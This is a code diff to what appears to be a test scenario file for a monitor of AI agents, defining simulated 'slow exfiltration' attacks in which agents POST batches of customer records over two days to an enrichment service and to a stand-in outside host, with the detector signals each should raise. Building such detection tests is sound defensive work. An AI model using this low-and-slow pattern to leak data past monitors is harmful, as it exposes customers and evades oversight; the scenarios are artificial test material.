@@ -47,32 +47,40 @@ const readWarehouse = (answer: Page): Deed => ({
   answer,
 });
 
-/** Nothing was read a short time before: what tells these is that the agent does not do such things. */
+/** Nothing was read a short time before: all that tells these is what they carry, and that the agent does not do such things. */
 function slowly(random: Random): readonly Attack[] {
   const piece = (url: string, count: number) => (): Deed => ({
     method: 'POST',
     url,
     body: { records: customerPage(random, count).results },
   });
-  const days = ['wednesday', 'thursday'] as const;
+  // On the second day it dares more.
+  const actsOf = (agent: string, url: string, fewest: number): Attack['acts'] => [
+    {
+      agent,
+      atMs: at('wednesday', '9:00'),
+      steps: repeated(random, 11, 40 * 60_000, piece(url, fewest)),
+    },
+    {
+      agent,
+      atMs: at('thursday', '9:00'),
+      steps: repeated(random, 11, 40 * 60_000, piece(url, 30)),
+    },
+  ];
+  const expected = [
+    { signal: 'BASELINE_ANOMALY' },
+    { signal: 'EXTERNAL_PRINCIPAL', beside: 'SENSITIVE_DATA' },
+  ];
   return [
     {
       name: 'slow exfiltration, by a service that is in use',
-      expected: [{ signal: 'BASELINE_ANOMALY' }],
-      acts: days.map((day) => ({
-        agent: 'marketing-crm',
-        atMs: at(day, '8:00'),
-        steps: repeated(random, 12, 40 * 60_000, piece(`${enrichment}/companies/match`, 8)),
-      })),
+      expected,
+      acts: actsOf('marketing-crm', `${enrichment}/companies/match`, 8),
     },
     {
       name: 'slow exfiltration, to a host of its own',
-      expected: [{ signal: 'BASELINE_ANOMALY' }],
-      acts: days.map((day) => ({
-        agent: 'support-billing',
-        atMs: at(day, '9:00'),
-        steps: repeated(random, 10, 45 * 60_000, piece('https://forms.survey-sink.example/submit', 3)),
-      })),
+      expected,
+      acts: actsOf('support-billing', 'https://forms.survey-sink.example/submit', 3),
     },
   ];
 }
